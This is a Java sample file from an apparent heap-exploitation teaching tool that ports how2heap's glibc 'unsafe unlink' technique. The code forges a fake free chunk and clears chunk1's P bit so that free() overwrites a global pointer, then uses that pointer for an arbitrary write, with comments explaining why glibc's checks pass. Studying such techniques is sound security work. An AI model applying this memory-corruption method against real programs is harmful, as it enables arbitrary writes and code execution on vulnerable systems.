package io.mallocscope.samples;

import io.mallocscope.runtime.CProgram;
import io.mallocscope.runtime.LibC;

import static io.mallocscope.runtime.LibC.STDOUT;

/**
 * Unsafe unlink: a port of how2heap's {@code glibc_2.36/unsafe_unlink.c}. A fake free chunk inside
 * chunk0 and a cleared P bit make free's backward merge unlink the fake chunk, which writes
 * {@code &chunk0_ptr - 0x18} into the global {@code chunk0_ptr}.
 *
 * <p>What to notice:
 * a) the fake chunk's fd and bk point 0x18 and 0x10 before the global, so that fd->bk and bk->fd both
 *    read the global, which holds the fake chunk's address: unlink's "corrupted double-linked list"
 *    check passes;
 * b) chunk1's prev_size is shrunk to 0x420 and its P bit cleared, so free(chunk1) believes the fake
 *    chunk is its free predecessor;
 * c) after the free, chunk0_ptr points at itself minus 0x18: writing through it moves it anywhere, here
 *    to a stack string that is then overwritten.
 *
 * <p>Which check stops it: none so far (how2heap lists it as working on the latest glibc); unlink's
 * size vs prev_size and fd/bk consistency checks are satisfied by the fake chunk. It needs a known
 * address that holds a pointer to the chunk.
 *
 * <p>Run: {@code ./mallocscope run unsafe-unlink}
 */
@Sample(name = "unsafe-unlink", description = "how2heap: unlink a fake chunk to overwrite a global pointer")
public final class UnsafeUnlink implements CProgram {

    @Override
    public int main(LibC c, String[] argv) {
        c.setbufNone(STDOUT);
        c.printf("Unsafe unlink: free() writes through a forged chunk.\n");
        long chunk0PtrAddr = c.global("chunk0_ptr", 8);
        int mallocSize = 0x420;

        c.putLong(chunk0PtrAddr, c.malloc(mallocSize));
        long chunk1 = c.malloc(mallocSize);
        long chunk0 = c.getLong(chunk0PtrAddr);
        c.printf("The global chunk0_ptr is at %p and points to %p.\n", chunk0PtrAddr, chunk0);
        c.printf("The chunk to corrupt is at %p.\n", chunk1);

        c.putLong(chunk0 + 8, c.getLong(chunk0 - 8) - 0x10);
        c.putLong(chunk0 + 16, chunk0PtrAddr - 8 * 3);
        c.putLong(chunk0 + 24, chunk0PtrAddr - 8 * 2);
        c.printf("Fake chunk fd: %p\n", c.getLong(chunk0 + 16));
        c.printf("Fake chunk bk: %p\n", c.getLong(chunk0 + 24));

        long chunk1Hdr = chunk1 - 16;
        c.putLong(chunk1Hdr, mallocSize);
        c.printf("chunk1's prev_size is now 0x%lx instead of 0x430.\n", c.getLong(chunk1Hdr));
        c.putLong(chunk1Hdr + 8, c.getLong(chunk1Hdr + 8) & ~1L);

        c.printf("free(chunk1) merges backwards and unlinks the fake chunk.\n");
        c.free(chunk1);
        c.printf("chunk0_ptr now holds %p.\n", c.getLong(chunk0PtrAddr));

        long victimString = c.local(8);
        c.strcpy(victimString, "Hello!~");
        c.putLong(c.getLong(chunk0PtrAddr) + 24, victimString);
        c.printf("Original value: %s\n", victimString);
        c.putLong(c.getLong(chunk0PtrAddr), 0x4141414142424242L);
        c.printf("New value: %.8s\n", victimString);
        c.assertTrue(c.getLong(victimString) == 0x4141414142424242L, "*(long *)victim_string == 0x4141414142424242L");
        return 0;
    }
}
